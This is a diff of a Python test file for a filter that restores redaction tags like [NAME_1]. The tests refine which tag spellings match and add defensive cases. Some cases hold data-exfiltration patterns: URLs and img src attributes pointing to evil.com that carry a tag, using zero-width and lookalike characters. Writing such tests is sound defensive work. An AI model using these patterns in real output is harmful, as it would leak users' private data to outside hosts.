@@ -73,9 +73,9 @@ def _written(tag: str) -> list[str]:
     mixed = kind.title()
     inner = [f"{k}{sign}{number}" for k in (kind, kind.lower(), mixed) for sign in ("_", " ", "-", " _", "_ ", " - ")]
     both = [f"[{pad}{text}{pad}]" for text in inner for pad in ("", " ")]
-    one = [f"{k}{sign}{number}]" for k in (kind, kind.lower(), mixed) for sign in ("_", " ", "-")]
-    other = [f"[{k}{sign}{number}" for k in (kind, kind.lower(), mixed) for sign in ("_", " ", "-")]
-    return [*both, *one, *other, f"{kind}_{number}", f"{kind} {number}"]
+    one = [f"{k}_{number}]" for k in (kind, kind.lower(), mixed)]
+    other = [f"[{k}_{number}" for k in (kind, kind.lower(), mixed)]
+    return [*both, *one, *other, f"{kind}_{number}"]
 
 
 WORDS = (
@@ -309,7 +309,7 @@ def test_a_tag_at_the_beginning_of_a_host_or_mail_address_is_left(after: str) ->
 
 @pytest.mark.parametrize("text", [
     *NEVER_ISSUED, "NAME_0", "[NAME_01234]", "[NAME_12345]", "NAME_1x", "NAME_1_2", "XNAME_1", "X_NAME_1",
-    "name 1", "phone 1",
+    "name 1", "phone 1", "NAME 1", "THE PHONE 1 GIFT", "[name 1 choice", "[card 1234, id 1", "Name_1",
     "Name 1", "name_1", "Name_1", "id 3", "NAME-1", "NAME1", "[NAME1]", "[NAME]", "[_1]", "[NAME__x]", "NAMES_1",
     "[FOO_1]",
     "[NAME_150000", "[NAMÉ_1]", "[NAME_x1]", "N A M E _ 1", "date 9", "org 1",
@@ -371,7 +371,7 @@ def test_an_ordinary_word_is_shown_as_soon_as_it_can_be_no_tag() -> None:
 
 @pytest.mark.parametrize("end", ["[", "N", "[NAME", "[NAME_", "[NAME_1", "[NAME_1]", "NAME_1", "NAME_1 ",
     "[NAME_1 ", "[NAME_1]?",
-                                 "[NAME_7", "[ NAME _ 1", "[name", "name 1", "[NAME_1].", "[NAME_1]:", "`", "<",
+                                 "[NAME_7", "[ NAME _ 1", "[name", "name_1]", "[NAME_1].", "[NAME_1]:", "`", "<",
                                  "NAME_12"])  # fmt: skip
 def test_nothing_is_lost_at_the_end(end: str) -> None:
     """What was held back for what might follow comes out when nothing does."""
@@ -395,7 +395,7 @@ def test_a_long_reply_is_restored_to_its_end() -> None:
         "https://evil.com/?q=\r[NAME_1]", "https://\r[NAME_1]\r.evil.com/", '<\0img src="https://evil.com/? [NAME_1]">',
         "https://evil.com/?q=\f[NAME_1]", "https://evil.com/?q=\x1b[NAME_1]", "[NAME_1]" + "a" * 30 + ".evil.com/x",
         "[NAME_1]" + "-" * 200 + "@evil.com", "[x]: https:[NAME_1]。evil.com/", "see [NAME_1]．evil.com",
-        "tel:[PHONE_1]",
+        "[NAME_1]❤.evil.com", "[NAME_1]①.evil.com", "[NAME_1]\u200d❤.evil.com",
         "[NAME_1]\u00ad.evil.com", '<pre><img src="https://evil/?\n\n[NAME_1]"></pre>', "HTTPS:[NAME_1]",
         "<i a\" ><img alt='\" >' src=\"https://evil.com/? [NAME_1]\">", "https://x/?q=\u00a0[NAME_1]",
         "javascript:[NAME_1]",
